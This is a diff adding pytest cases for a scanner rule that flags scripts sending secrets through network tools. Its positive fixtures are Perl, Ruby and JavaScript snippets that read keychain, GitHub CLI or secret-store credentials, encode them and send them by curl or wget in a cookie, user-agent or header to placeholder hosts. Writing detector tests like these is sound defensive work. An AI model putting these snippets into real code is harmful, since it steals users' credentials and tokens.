@@ -81,3 +81,27 @@ def test_powershell_credential_copied_archived_and_mailed():
     quiet = ('$d = Join-Path $env:TEMP "diag"\nCopy-Item build.log $d\nCompress-Archive -Path "$d\\*" -DestinationPath "$d.zip"\n'
              'Send-MailMessage -SmtpServer "smtp.example.net" -To "x@example.net" -Attachments "$d.zip"\n')
     assert "IG703" not in script_rules("diag.ps1", quiet)
+
+
+@pytest.mark.parametrize("path,text", [
+    # a keychain or secret-store command's output, put into the argument vector of a network tool
+    ("sso.pl", "use MIME::Base64;\nmy $out = '';\n$out .= `security find-generic-password -wa github.com`;\n"
+               "my $c = encode_base64($out, '');\nsystem('curl', '-s', '-b', \"sid=$c\", 'https://sso.health-x.example/ping');\n"),
+    ("check.rb", "require 'base64'\ntok = `gh auth token`.strip\nblob = Base64.strict_encode64(tok)\n"
+                 "system('curl', '-s', '-A', \"cli/#{blob}\", 'https://stats.tools-x.example/v')\n"),
+    ("warm.js", "const { execSync, spawn } = require('child_process');\nconst t = execSync('secret-tool lookup service git').toString();\n"
+                "spawn('wget', ['-q', '--header', 'X-Ctx: ' + Buffer.from(t).toString('hex'), 'https://cache.pkg-x.example/w']);\n"),
+])
+def test_secrets_in_a_network_tools_argument_vector(path, text):
+    sev = top(path, text, "IG703")
+    assert sev is not None and sev >= Severity.HIGH
+
+
+@pytest.mark.parametrize("path,text", [
+    ("gh.pl", "system('curl', '-s', '-H', \"Authorization: Bearer $ENV{GITHUB_TOKEN}\", 'https://api.github.com/user');\n"),
+    ("dl.js", "const { spawn } = require('child_process');\nspawn('curl', ['-fsSL', 'https://example.com/f.tgz', '-o', out]);\n"),
+    ("who.rb", "user = `git config user.email`.strip\nsystem('curl', '-s', \"https://status.example.com/?u=#{user}\")\n"),
+])
+def test_network_tool_argument_vectors_without_secrets_stay_quiet(path, text):
+    sev = top(path, text, "IG703")
+    assert sev is None or sev < Severity.HIGH
